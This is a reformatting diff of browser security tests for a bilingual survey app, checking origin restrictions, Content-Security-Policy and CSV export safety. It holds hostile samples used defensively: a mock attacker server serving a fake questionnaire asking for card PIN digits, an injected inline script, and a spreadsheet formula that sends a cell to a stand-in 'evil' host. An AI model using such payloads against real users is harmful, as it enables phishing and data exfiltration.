@@ -18,7 +18,14 @@ const PIN = JSON.stringify({
   id: 'pin',
   version: '1',
   title: { 'zh-CN': '安全验证', en: 'Security check' },
-  questions: [{ id: 'q1', kind: 'single', text: { 'zh-CN': '请选择您银行卡密码的第 1 位', en: 'Choose digit 1 of your card PIN' }, options: [{ code: 'A', label: { 'zh-CN': '0', en: '0' } }] }],
+  questions: [
+    {
+      id: 'q1',
+      kind: 'single',
+      text: { 'zh-CN': '请选择您银行卡密码的第 1 位', en: 'Choose digit 1 of your card PIN' },
+      options: [{ code: 'A', label: { 'zh-CN': '0', en: '0' } }],
+    },
+  ],
 });
 
 let env;
@@ -29,7 +36,9 @@ before(async () => {
   env = await launch();
   evil = createServer((req, res) => {
     evilHits.push(req.url);
-    res.writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' }).end(PIN);
+    res
+      .writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' })
+      .end(PIN);
   });
   await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
   evilUrl = `http://127.0.0.1:${evil.address().port}`;
@@ -39,7 +48,7 @@ after(async () => {
   await new Promise((ok) => evil?.close(ok));
 });
 
-test('a link naming another origin\'s questionnaire is refused on every page, and nothing is fetched from it', async () => {
+test("a link naming another origin's questionnaire is refused on every page, and nothing is fetched from it", async () => {
   const context = await env.newContext({ ...PHONE, serviceWorkers: 'block' });
   const attempts = [
     `${evilUrl}/pin.json`,
@@ -59,18 +68,23 @@ test('a link naming another origin\'s questionnaire is refused on every page, an
       const page = await context.newPage();
       const errors = [];
       page.on('pageerror', (e) => errors.push(e));
-      await page.goto(`${env.url}${file}?instrument=${encodeURIComponent(attempt)}&inv=7ZZZZZZZZZZZZZZZZZZZZZZZ`);
+      await page.goto(
+        `${env.url}${file}?instrument=${encodeURIComponent(attempt)}&inv=7ZZZZZZZZZZZZZZZZZZZZZZZ`,
+      );
       // The entry screen is a staff screen: past its lock first.
       if (file === 'entry.html') await unlockStaff(page);
       await page.locator('html[data-ready="error"]').waitFor();
       const shown = await page.locator(alert).textContent();
       assert.match(shown, /instruments\//, `${file} with ${attempt}: ${shown}`);
-      assert.ok(!/PIN|密码/.test(await page.locator('body').textContent()), `${file} shows no question from ${attempt}`);
+      assert.ok(
+        !/PIN|密码/.test(await page.locator('body').textContent()),
+        `${file} shows no question from ${attempt}`,
+      );
       assert.deepEqual(errors, []);
       await page.close();
     }
   }
-  assert.deepEqual(evilHits, [], 'the attacker\'s server was never asked');
+  assert.deepEqual(evilHits, [], "the attacker's server was never asked");
   await context.close();
 });
 
@@ -85,12 +99,19 @@ test('the Content-Security-Policy is in force: header and <meta> agree, other or
     assert.ok(!/\sstyle="/.test(html), `${file} has no inline style`);
     assert.ok(!/\son[a-z]+="/.test(html), `${file} has no inline handler`);
   }
-  for (const directive of ["default-src 'self'", "connect-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'"]) {
+  for (const directive of [
+    "default-src 'self'",
+    "connect-src 'self'",
+    "frame-ancestors 'none'",
+    "object-src 'none'",
+    "base-uri 'none'",
+  ]) {
     assert.ok(POLICY.split('; ').includes(directive), directive);
   }
   assert.ok(!POLICY.includes('unsafe-inline') && !POLICY.includes("'unsafe-eval'"));
   // dist/_headers says the same as the server.
-  for (const [name, value] of Object.entries(HEADERS)) assert.ok(headersFile().includes(`  ${name}: ${value}\n`), name);
+  for (const [name, value] of Object.entries(HEADERS))
+    assert.ok(headersFile().includes(`  ${name}: ${value}\n`), name);
 
   const context = await env.newContext({ ...PHONE, serviceWorkers: 'block' });
   const page = await context.newPage();
@@ -102,7 +123,9 @@ test('the Content-Security-Policy is in force: header and <meta> agree, other or
   assert.equal(headers['referrer-policy'], 'no-referrer');
   const outcome = await page.evaluate(async (other) => {
     const violations = [];
-    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    document.addEventListener('securitypolicyviolation', (e) =>
+      violations.push(e.effectiveDirective),
+    );
     // An injected inline script does not run.
     const s = document.createElement('script');
     s.textContent = 'window.pwned = true';
@@ -127,28 +150,43 @@ test('the Content-Security-Policy is in force: header and <meta> agree, other or
   assert.equal(outcome.pwned, false);
   assert.equal(outcome.fetched, false);
   assert.notEqual(outcome.colour, 'rgb(255, 0, 0)');
-  for (const d of ['script-src-elem', 'connect-src', 'style-src-attr']) assert.ok(outcome.violations.includes(d), `${d} in ${outcome.violations}`);
+  for (const d of ['script-src-elem', 'connect-src', 'style-src-attr'])
+    assert.ok(outcome.violations.includes(d), `${d} in ${outcome.violations}`);
   assert.deepEqual(evilHits, []);
   // The pages cannot be framed by another site.
-  const framer = createServer((req, res) => res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${env.url}survey.html"></iframe>`));
+  const framer = createServer((req, res) =>
+    res
+      .writeHead(200, { 'Content-Type': 'text/html' })
+      .end(`<iframe src="${env.url}survey.html"></iframe>`),
+  );
   await new Promise((ok) => framer.listen(0, '127.0.0.1', ok));
   const host = await context.newPage();
   await host.goto(`http://127.0.0.1:${framer.address().port}/`);
   await host.waitForTimeout(500);
   const framed = host.frames().find((f) => f !== host.mainFrame());
-  const loaded = framed ? await framed.evaluate(() => document.documentElement.dataset.ready ?? null).catch(() => null) : null;
-  assert.equal(loaded, null, 'the survey does not run inside another site\'s frame');
+  const loaded = framed
+    ? await framed.evaluate(() => document.documentElement.dataset.ready ?? null).catch(() => null)
+    : null;
+  assert.equal(loaded, null, "the survey does not run inside another site's frame");
   await new Promise((ok) => framer.close(ok));
   await context.close();
 });
 
 test('a call-back name written as a formula is exported as text and imported back unchanged', async () => {
-  const BUILTIN = readFileSync(new URL('../../instruments/zg-x-branch-2023.json', import.meta.url), 'utf8');
+  const BUILTIN = readFileSync(
+    new URL('../../instruments/zg-x-branch-2023.json', import.meta.url),
+    'utf8',
+  );
   const CALLBACK = BUILTIN.replace('"version": "2",', '"version": "2",\n  "callback": true,');
   const EVIL = '=HYPERLINK("http://evil/?d="&B2,"click")';
   const ROW = ['A', 'A', 'C', 'G', 'A', 'D', 'H', 'C', 'E', 'B', 'D', 'C', 'C', 'C', 'C', 'B', '3'];
-  const context = await env.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' });
-  await context.route('**/instruments/callback-instrument.json', (route) => route.fulfill({ contentType: 'application/json', body: CALLBACK }));
+  const context = await env.newContext({
+    viewport: { width: 1280, height: 900 },
+    serviceWorkers: 'block',
+  });
+  await context.route('**/instruments/callback-instrument.json', (route) =>
+    route.fulfill({ contentType: 'application/json', body: CALLBACK }),
+  );
   const page = await context.newPage();
   await openStaff(page, env.url);
   await page.goto(`${env.url}survey.html?instrument=instruments/callback-instrument.json`);
@@ -167,7 +205,10 @@ test('a call-back name written as a formula is exported as text and imported bac
   await page.waitForFunction(() => document.querySelector('#store-status')?.dataset.total === '1');
   await page.locator('#export-contacts').check();
   const exportCsv = async (p) => {
-    const [dl] = await Promise.all([p.waitForEvent('download'), p.locator('[data-export="csv"]').click()]);
+    const [dl] = await Promise.all([
+      p.waitForEvent('download'),
+      p.locator('[data-export="csv"]').click(),
+    ]);
     return readFileSync(await dl.path(), 'utf8');
   };
   const csv = await exportCsv(page);
@@ -177,11 +218,18 @@ test('a call-back name written as a formula is exported as text and imported bac
   assert.ok(line.includes("'+86 138 0013 8000"), line);
   assert.ok(!/(^|,)"?[=+@-]/.test(line.split(',').slice(1).join(',')), line);
   // Another device imports the file and exports the same cells.
-  const other = await env.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' });
+  const other = await env.newContext({
+    viewport: { width: 1280, height: 900 },
+    serviceWorkers: 'block',
+  });
   const second = await other.newPage();
   await openStaff(second, env.url);
-  await second.waitForFunction(() => document.querySelector('#store-status')?.dataset.total !== undefined);
-  await second.locator('#import-file').setInputFiles({ name: 'branch.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+  await second.waitForFunction(
+    () => document.querySelector('#store-status')?.dataset.total !== undefined,
+  );
+  await second
+    .locator('#import-file')
+    .setInputFiles({ name: 'branch.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
   await second.locator('#preview:not([hidden])').waitFor();
   await second.locator('#commit').click();
   await second.waitForFunction(() => document.querySelector('#store-status').dataset.total === '1');
